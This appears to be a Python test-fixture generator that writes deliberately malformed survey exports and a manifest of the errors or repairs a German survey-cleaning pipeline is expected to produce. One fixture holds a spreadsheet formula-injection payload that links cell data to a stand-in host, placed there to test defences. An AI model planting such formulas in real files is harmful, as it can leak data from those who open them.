"""Write the corpus of bad exports (`files/`) and its manifest (`corpus.csv`).

Each file is a small simulated export broken in one way real exports break. The manifest says
what the pipeline must make of it: `error` (exit code 2, one line naming the file and, where
it applies, row and column; `expect` is part of that line) or `repair` (the cleaning succeeds
and the audit table has a row with rule `expect`, in column `column` when given).

Re-generate after a codebook change: `.venv/bin/python tests/bad_exports/make_corpus.py`.
"""

from __future__ import annotations

import csv
import shutil
import zipfile
from pathlib import Path

import pandas as pd

from analysis import clean, simulate

HERE = Path(__file__).parent
FILES = HERE / "files"
MANIFEST = HERE / "corpus.csv"
#: Files too large to commit; `big_file` writes them at test time.
GENERATED = {"oversize.csv"}


def base() -> tuple[pd.DataFrame, int]:
    """A small simulated LimeSurvey export and the row of a response the cleaning keeps."""
    export, _, _ = simulate.simulate(30, 5, "limesurvey", None)
    tmp = FILES / "_base.csv"
    tmp.write_text(lime(export), encoding="utf-8-sig", newline="")
    kept = set(clean.clean(tmp).responses.query("is_complete")["response_id"])
    tmp.unlink()
    row = next(i for i, rid in enumerate(export["id"]) if rid in kept)
    return export, row


def lime(df: pd.DataFrame, **kwargs) -> str:
    kwargs = {"sep": ";", "quoting": csv.QUOTE_ALL, "lineterminator": "\r\n"} | kwargs
    return df.to_csv(index=False, **kwargs)


def forms() -> pd.DataFrame:
    export, _, _ = simulate.simulate(30, 6, "forms", None)
    return export


def xlsx(path: Path, sheets: dict[str, pd.DataFrame]) -> None:
    with pd.ExcelWriter(path, engine="openpyxl") as xl:
        for name, df in sheets.items():
            df.to_excel(xl, sheet_name=name, index=False)


def corpus() -> list[dict]:
    df, r = base()
    text = lime(df)
    header = text.split("\r\n", 1)[0]
    lines = text.split("\r\n")
    out: list[dict] = []

    def add(name: str, category: str, outcome: str, expect: str, content, column: str = "") -> None:
        path = FILES / name
        if callable(content):
            content(path)
        elif isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8", newline="")
        out.append({"file": name, "category": category, "outcome": outcome, "expect": expect, "column": column})

    def changed(col: str, value: str, row: int = r) -> str:
        d = df.copy()
        d.at[row, col] = value
        return lime(d)

    # --- empty and not a survey export
    add("empty.csv", "leer", "error", "Datei ist leer", "")
    add("whitespace_only.csv", "leer", "error", "Datei ist leer", "\r\n \r\n\t\r\n")
    add("header_only.csv", "nur Kopfzeile", "error", "nur eine Kopfzeile", header + "\r\n")
    add("header_only_blank_lines.csv", "nur Kopfzeile", "error", "nur eine Kopfzeile", header + "\r\n;;;\r\n\r\n")
    add("binary_junk.csv", "Binärdaten", "error", "Binärdaten", bytes(range(256)) * 20)
    add("binary_junk_no_nul.csv", "Binärdaten", "error", "Binärdaten", bytes(range(1, 32)) * 200)
    add("pdf_renamed.csv", "Binärdaten", "error", "Binärdaten", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\x00\x00" * 50)
    add("not_a_survey.csv", "keine Umfrage", "error", "keine Umfrage-Exportdatei", "Artikel;Preis\r\nApfel;1,20\r\n")
    add("limesurvey_without_meta.csv", "keine Umfrage", "error", "ohne die Metadatenspalten",
        lime(df.drop(columns=["id", "submitdate"])))  # fmt: skip
    # --- encodings
    add("utf16_bom.csv", "UTF-16", "repair", "file_format", text.encode("utf-16"))
    add("utf16_le_without_bom.csv", "UTF-16", "repair", "file_format", text.encode("utf-16-le"))
    add("utf16_be_without_bom.csv", "UTF-16", "repair", "file_format", text.encode("utf-16-be"))
    umlaut = changed("G02", "Bürgerbüro mit Terminbuchung über das Portal, Gebühren per ePayment.")
    add("windows_1252.csv", "Kodierung", "repair", "file_format", umlaut.encode("cp1252"))
    two = df.copy()
    two.at[r, "G02"] = "Bürgerbüro mit Terminbuchung über das Portal."
    two.at[r + 1, "G02"] = "Gebühren online zahlen (Zeile aus einer Windows-Datei angefügt)."
    pasted = [line.encode("cp1252" if i == r + 2 else "utf-8") for i, line in enumerate(lime(two).split("\r\n"))]
    add("mixed_encodings.csv", "Kodierung", "repair", "mixed_encoding", b"\r\n".join(pasted), column=f"Zeile {r + 3}")
    add("undecodable_bytes.csv", "Kodierung", "error", f"Zeile {r + 2}: Zeichenkodierung nicht erkannt",
        changed("G02", "M@nchen").encode().replace(b"M@nchen", b"M\x81nchen"))  # fmt: skip
    last = len(df) - 1
    add("nul_in_text.csv", "Kodierung", "error", f"Zeile {last + 2}: Nullzeichen",
        changed("G02", "Portal@", last).encode().replace(b"Portal@", b"Portal\x00"))  # fmt: skip
    # --- delimiters and quoting
    add("comma_delimiter.csv", "Trennzeichen", "repair", "file_format", lime(df, sep=","))
    add("tab_delimiter.csv", "Trennzeichen", "repair", "file_format", lime(df, sep="\t"))
    add("no_delimiter.csv", "Trennzeichen", "error", "kein Trennzeichen", "eine Zeile ohne Trennzeichen\nnoch eine\n")
    german_excel = df.copy()
    for col in ("submitdate", "startdate", "datestamp"):
        german_excel[col] = pd.to_datetime(german_excel[col]).dt.strftime("%d.%m.%Y %H:%M").fillna("")
    german_excel["A02"] = german_excel["A02"].str.lstrip("0")
    german_excel["interviewtime"] = german_excel["interviewtime"].str.replace(".", ",")
    add("german_excel.csv", "Excel (deutsch)", "repair", "codes_from_labels",
        lime(german_excel, quoting=csv.QUOTE_MINIMAL).encode("cp1252"), column="A02")  # fmt: skip
    fields = lines[-2].split('";"')
    add("truncated_last_line.csv", "abgeschnitten", "error", f"Zeile {len(df) + 1}, Spalte {df.columns[20]}",
        "\r\n".join(lines[:-2]) + "\r\n" + '";"'.join(fields[:20]) + '"')  # fmt: skip
    add("truncated_in_quote.csv", "abgeschnitten", "error", f"Zeile {len(df) + 1}: Anführungszeichen nicht geschlossen",
        text[: text.rindex('";"') + 4])  # fmt: skip
    add("extra_fields.csv", "Felder", "error", f"Zeile {r + 2}: {len(df.columns) + 1} Felder",
        "\r\n".join(line + ';"zu viel"' if i == r + 1 else line for i, line in enumerate(lines)))  # fmt: skip
    add("trailing_delimiters.csv", "Felder", "repair", "unknown_column",
        "\r\n".join(line + ";" if line else line for line in lines), column="(ohne Namen)")  # fmt: skip
    # --- columns
    dup = df.rename(columns={"A04": "A05"})
    add("duplicate_columns.csv", "Spalten", "error", "Zeile 1, Spalte A05: Spalte mehrfach", lime(dup))
    add("unknown_columns.csv", "Spalten", "repair", "unknown_column",
        lime(df.assign(Bemerkung="intern", Sachbearbeiter="Herr Müller")), column="bemerkung")  # fmt: skip
    add("missing_required_column.csv", "Spalten", "error", "Zeile 1, Spalte A03: Pflichtspalte fehlt",
        lime(df.drop(columns=["A03"])))  # fmt: skip
    add("missing_optional_column.csv", "Spalten", "repair", "missing_column",
        lime(df.drop(columns=["B02"])), column="B02")  # fmt: skip
    add("headers_other_case.csv", "Spalten", "repair", "codes_from_labels",
        lime(df.rename(columns=str.lower).assign(a03=df["A03"].where(df.index != r, "Landkreis"))), column="A03")  # fmt: skip
    # --- records
    add("duplicate_response_id.csv", "Datensätze", "error", f"Zeile {r + 3}, Spalte id: Antwort-ID",
        changed("id", df.at[r, "id"], r + 1))  # fmt: skip
    add("missing_response_id.csv", "Datensätze", "error", f"Zeile {r + 2}, Spalte id: Antwort-ID fehlt",
        changed("id", ""))  # fmt: skip
    twice = pd.concat([df, df.iloc[[r]].assign(id="9999")], ignore_index=True)
    add("same_municipality_twice.csv", "Datensätze", "repair", "duplicate", lime(twice))
    add("test_response.csv", "Datensätze", "repair", "test_response", changed("A01", "Testgemeinde bitte löschen"))
    add("only_test_responses.csv", "Datensätze", "error", "keine Antwort übrig",
        lime(df.assign(A01="test")))  # fmt: skip
    add("invalid_date.csv", "Datensätze", "repair", "invalid_date", changed("submitdate", "31.02.2026 25:61"),
        column="submitdate")  # fmt: skip
    # --- values
    add("out_of_range_codes.csv", "Werte", "repair", "invalid_code", changed("B03", "7"), column="strategy_status")
    add("out_of_range_likert.csv", "Werte", "repair", "invalid_code", changed("C01", "12"), column="digital_importance")
    add("negative_staff.csv", "Werte", "repair", "out_of_range", changed("B01", "-3"), column="it_staff_fte")
    add("budget_in_thousands.csv", "Werte", "repair", "number_from_text", changed("B02", "850 T€"),
        column="digital_budget_eur")  # fmt: skip
    add("budget_in_millions.csv", "Werte", "repair", "number_from_text", changed("B02", "1,2 Mio."),
        column="digital_budget_eur")  # fmt: skip
    add("number_as_words.csv", "Werte", "repair", "unparseable", changed("B01", "zwei bis drei Leute"),
        column="it_staff_fte")  # fmt: skip
    add("absurd_population.csv", "Werte", "repair", "out_of_range", changed("A04", "99999999999"), column="population")
    add("labels_instead_of_codes.csv", "Werte", "repair", "codes_from_labels",
        changed("B04", "ja"), column="B04")  # fmt: skip
    add("personal_data_in_text.csv", "Personenbezug", "repair", "personal_data_removed",
        changed("G02", "Gutes Portal. Fragen an Frau Schneider, Tel. 0351 4887123, anna.schneider@rathaus-beispiel.de"),
        column="good_example_text")  # fmt: skip
    add("personal_data_in_number.csv", "Personenbezug", "repair", "unparseable",
        changed("B01", "weiß ich nicht, bitte max.mustermann@kommune-mail.de fragen"), column="it_staff_fte")  # fmt: skip
    add("very_long_text.csv", "Umfang", "repair", "text_truncated", changed("G02", "Bürgerportal. " * 2000),
        column="good_example_text")  # fmt: skip
    # --- Excel workbooks
    f = forms()
    add("forms_extra_sheets.xlsx", "Excel-Arbeitsmappe", "repair", "file_format",
        lambda p: xlsx(p, {"Hinweise": pd.DataFrame({"Info": ["Export vom 1.12."]}), "Form1": f,
                           "Auswertung": pd.DataFrame({"Summe": [1]})}))  # fmt: skip
    add("forms_renamed_sheet.xlsx", "Excel-Arbeitsmappe", "repair", "file_format",
        lambda p: xlsx(p, {"Antworten Umfrage": f}))  # fmt: skip
    add("forms_no_survey_sheet.xlsx", "Excel-Arbeitsmappe", "error", "kein Tabellenblatt mit Spalten des Codebuchs",
        lambda p: xlsx(p, {"Tabelle1": pd.DataFrame({"Artikel": ["Apfel"], "Preis": [1.2]})}))  # fmt: skip
    add("forms_header_only.xlsx", "Excel-Arbeitsmappe", "error", "nur eine Kopfzeile",
        lambda p: xlsx(p, {"Form1": f.iloc[:0]}))  # fmt: skip
    add("forms_duplicate_id.xlsx", "Excel-Arbeitsmappe", "error", "Spalte id: Antwort-ID",
        lambda p: xlsx(p, {"Form1": f.assign(ID=[1] * len(f))}))  # fmt: skip

    def broken_zip(p: Path) -> None:
        with zipfile.ZipFile(p, "w") as z:
            z.writestr("hello.txt", "not a workbook")

    add("broken_workbook.xlsx", "Excel-Arbeitsmappe", "error", "Excel-Datei nicht lesbar", broken_zip)
    add("truncated_workbook.xlsx", "Excel-Arbeitsmappe", "error", "Excel-Datei nicht lesbar",
        lambda p: (xlsx(p, {"Form1": f}), p.write_bytes(p.read_bytes()[:3000])))  # fmt: skip

    # --- other tools and containers (SPSS, Stata, SoSci Survey, LimeSurvey's structure file)
    def written(fmt: str, options: dict | None = None):
        def write(p: Path) -> None:
            export, truth_rows, truth = simulate.simulate(30, 5, fmt, None, options)
            simulate.write_export(export, truth_rows, truth, p)
            for sidecar in p.parent.glob(f"{p.name.split('.')[0]}.*"):
                if sidecar != p:
                    sidecar.unlink()

        return write

    def truncated(fmt: str, keep: int):
        def write(p: Path) -> None:
            written(fmt)(p)
            p.write_bytes(p.read_bytes()[:keep])

        return write

    add("truncated_spss.sav", "SPSS/Stata", "error", "SPSS-Datei nicht lesbar", truncated("limesurvey-sav", 4000))
    add("truncated_stata.dta", "SPSS/Stata", "error", "Stata-Datei nicht lesbar", truncated("stata", 3000))

    def unrelated_sav(p: Path) -> None:
        import pyreadstat

        pyreadstat.write_sav(pd.DataFrame({"alter": [34.0, 51.0], "geschlecht": [1.0, 2.0]}), str(p))

    add("unrelated.sav", "SPSS/Stata", "error", "keine Umfrage-Exportdatei", unrelated_sav)
    add("sosci_unknown_values.csv", "SoSci Survey", "error", "Werte passen nicht zu",
        lambda p: (written("sosci")(p), p.write_text(p.read_text(encoding="utf-16").replace("\t2\t", "\tX\t")
                                                     .replace("\t1\t", "\tO\t"), encoding="utf-16")))  # fmt: skip
    add("structure_file_instead_of_export.lss", "keine Umfrage", "error", "kein Trennzeichen",
        lambda p: simulate.write_lss(p))  # fmt: skip
    english = df.copy()
    english["D01[SQ001]"] = english["D01[SQ001]"].map({"1": "not planned", "2": "planned", "3": "in progress",
                                                       "4": "live"}).fillna("")  # fmt: skip
    add("answers_in_english.csv", "LimeSurvey-Optionen", "error", "Werte passen nicht zu den Antwortcodes",
        lime(english))  # fmt: skip
    add("limesurvey_abbreviated_headings.csv", "LimeSurvey-Optionen", "error", "Überschriften „Fragecode“",
        lambda p: written("limesurvey", {"headings": "abbreviated"})(p))  # fmt: skip
    add("limesurvey_full_answers_and_headings.csv", "LimeSurvey-Optionen", "repair", "file_format",
        lambda p: written("limesurvey", {"headings": "full", "answers": "full"})(p))  # fmt: skip
    add("limesurvey_without_timings.csv", "LimeSurvey-Optionen", "repair", "rule_off",
        lambda p: written("limesurvey", {"timings": "no"})(p), column="interviewtime")  # fmt: skip
    add("limesurvey_without_date_stamps.csv", "LimeSurvey-Optionen", "repair", "rule_off",
        lambda p: written("limesurvey", {"datestamp": "no"})(p), column="submitdate")  # fmt: skip
    # --- what broke before (issue 19): ids that are not numbers, a renamed population column
    add("response_id_not_a_number.csv", "Datensätze", "repair", "number_from_text",
        lime(df.assign(id=[f"R-{i}a" for i in range(len(df))]).assign(B02="ca. 100.000")), column="digital_budget_eur")  # fmt: skip
    add("population_column_renamed.csv", "Spalten", "error", "keine Antwort lässt sich gewichten",
        lime(df.rename(columns={"A04": "Einwohner"})))  # fmt: skip
    add("formula_in_fields.csv", "Formeln", "repair", "unparseable",
        lime(df.assign(B01=df["B01"].where(df.index != r, "=1+2"),
                       H01=df["H01"].where(df.index != r, '=HYPERLINK("http://x.example/?"&A1;"Klick")'))),
        column="it_staff_fte")  # fmt: skip
    out.append({"file": "oversize.csv", "category": "Umfang", "outcome": "error", "expect": "Datei zu groß",
                "column": ""})  # fmt: skip
    return out


def big_file(path: Path, size: int) -> Path:
    """A sparse file of `size` bytes (takes no disk space) starting with a valid header."""
    with open(path, "wb") as fh:
        fh.write(b'"id";"submitdate";"A01";"A02";"A03"\r\n')
        fh.truncate(size)
    return path


def main() -> None:
    shutil.rmtree(FILES, ignore_errors=True)
    FILES.mkdir(parents=True)
    rows = corpus()
    pd.DataFrame(rows).to_csv(MANIFEST, sep=";", index=False, lineterminator="\n")
    print(f"{len(rows)} Dateien in {FILES} ({len(GENERATED)} davon beim Test erzeugt), Manifest {MANIFEST}")


if __name__ == "__main__":
    main()
